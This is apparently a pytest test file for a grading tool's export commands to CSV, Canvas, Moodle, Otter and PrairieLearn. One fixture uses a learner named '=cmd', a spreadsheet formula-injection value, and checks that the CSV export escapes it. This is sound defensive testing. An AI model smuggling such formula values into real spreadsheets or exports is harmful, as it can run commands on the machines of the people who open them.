    for text, cases in [(TWO, 4), (TWO.replace("= 0.5", "= 1.0"), 2), (TWO.replace("= 0.5", "= 0.0"), 2)]:
        made = otter_export.tests(assignment(text))["q1.py"].decode()
        points = [float(found) for found in re.findall(r"^    points=(.*),$", made, re.MULTILINE)]
        assert len(points) == cases and sum(points) == 3.0
        assert "hidden=True" not in made
    assert "hidden=False" not in otter_export.tests(assignment('feedback = "score"\n' + TWO))["q1.py"].decode()


# -- the commands ----------------------------------------------------------------------------------------------------


def run(name, *arguments):
    """A command of ours, as the command line calls it: exit code, what it says."""
    from click.testing import CliRunner

    command = app.commands["export"].commands[name]
    done = CliRunner().invoke(command, [str(argument) for argument in arguments], standalone_mode=False)
    if done.exception is not None:
        raise done.exception
    return done.return_value, done.output


@pytest.fixture(scope="module")
def results(tmp_path_factory):
    """A class of three, graded: its results folder."""
    folder = tmp_path_factory.mktemp("results")
    head = "# exercise: softmax-regression\n"
    aliases = {"ann": {"canvas": "4711", "email": "ann@example.org"}, "bo": {"canvas": "4712", "moodle": "4713"}}
    sheets = {"ann": head + RIGHT, "bo": head + PART, "=cmd": head + WRONG}
    batch.grade(
        assignment(folder=folder),
        [Submission(who, 1, "q1.py", text.encode(), (), who, aliases.get(who, {})) for who, text in sheets.items()],
        folder,
        jobs=1,
    )
    return folder


def test_csv_command(results, tmp_path):
    code, said = run("csv", results, "-o", tmp_path / "grades.csv")
    assert code == 0 and "3 learners" in said
    with (tmp_path / "grades.csv").open(encoding="utf-8-sig", newline="") as stream:
        rows = {row["learner"]: row for row in csv.DictReader(stream)}
    assert {who: row["total"] for who, row in rows.items()} == {"ann": "3", "bo": "2", "'=cmd": "0"}
    assert [path.name for path in tmp_path.iterdir()] == ["grades.csv"]


@pytest.mark.parametrize("name", [format.name for format in FORMATS if format.name not in ("canvas", "moodle")])
def test_what_cannot_be_written_is_said(results, tmp_path, name):
    (tmp_path / "homework.toml").write_text(TWO, "utf-8")
    (tmp_path / "file").write_text("mine", "utf-8")
    source = results if name == "csv" else tmp_path / "homework.toml"
    with pytest.raises(UsageError, match="cannot write .*; give another path"):
        run(name, source, "-o", tmp_path / "file" / "below")
    assert (tmp_path / "file").read_text("utf-8") == "mine"


def test_a_file_takes_anothers_place_as_a_whole_or_not_at_all(tmp_path):
    path = put(tmp_path / "results.json", "before")
    with pytest.raises(ZeroDivisionError), replaced(path) as file:
        file.write(b"half of it")
        raise ZeroDivisionError
    assert path.read_bytes() == b"before" and [each.name for each in tmp_path.iterdir()] == ["results.json"]
    with replaced(path, lasting=True) as file:
        file.write(b"after")
    assert path.read_bytes() == b"after" and [each.name for each in tmp_path.iterdir()] == ["results.json"]


def test_canvas_command(results, tmp_path):
    exported = put(tmp_path / "g.csv", CANVAS)
    code, said = run("canvas", results, exported, "-o", tmp_path / "out.csv")
    wanted = CANVAS.replace('early",,7', 'early",3,7').replace('"1.00"', '"2"')
    assert code == 0 and (tmp_path / "out.csv").read_bytes() == wanted.encode()
    assert "2 grades filled in" in said and "left as it was: =cmd: has no row here" in said


def test_moodle_command(results, tmp_path):
    exported = put(tmp_path / "g.csv", MOODLE.replace("5.00,No", "5.00,Yes"))
    code, said = run("moodle", results, exported, "-o", tmp_path / "out.csv")
    table = filled.read(tmp_path / "out.csv")
    told = {row.value(1): (row.value(4), row.value(9)) for row in table.rows[1:]}
    assert code == 0 and {who: points for who, (points, _) in told.items()} == {
        "Cy Lee": "", "Ann Lee": "3", "Bo Lee": "2", "Dee Poe": "",
    }  # fmt: skip
    assert "2 of 3 points" in told["Bo Lee"][1] and told["Bo Lee"][1].startswith("<pre>")
    assert told["Cy Lee"][1] == ""


@pytest.mark.parametrize(("name", "made"), [
    ("gradescope", {"out"}),
    ("nbgrader", {"out"}),
    ("otter", {"out/q1.py", "out/q2.py", "homework-3.ipynb"}),
    ("prairielearn", {f"out/{name}" for name in (
        "info.json", "question.html", "q1.py", "q2.py", "tests/run.sh", "tests/Dockerfile",
        "tests/assignment/assignment.toml")}),
])  # fmt: skip
def test_commands_that_take_an_assignment(tmp_path, name, made):
    (tmp_path / "homework.toml").write_text(TWO, "utf-8")
    code, said = run(name, tmp_path / "homework.toml", "-o", tmp_path / "out")
    files = {path.relative_to(tmp_path).as_posix() for path in tmp_path.rglob("*") if path.is_file()}
    assert code == 0 and files == made | {"homework.toml"} and "written:" in said
    if name == "prairielearn":
        assert os.access(tmp_path / "out/tests/run.sh", os.X_OK)


def test_a_notebook_that_lies_there_is_not_written_over(tmp_path):
    path = tmp_path / "homework.toml"
    path.write_text(assignment().text)
    mine = tmp_path / f"{assignment().id}.ipynb"
    mine.write_text("mine")
    with pytest.raises(UsageError, match="--notebook"):
        run("otter", path, "-o", tmp_path / "tests")
    assert mine.read_text() == "mine" and not (tmp_path / "tests").exists()
    assert run("otter", path, "-o", tmp_path / "tests", "--notebook", tmp_path / "n.ipynb")[0] == 0
    assert run("otter", path, "-o", tmp_path / "tests", "--notebook", tmp_path / "n.ipynb")[0] == 0  # named: replaced
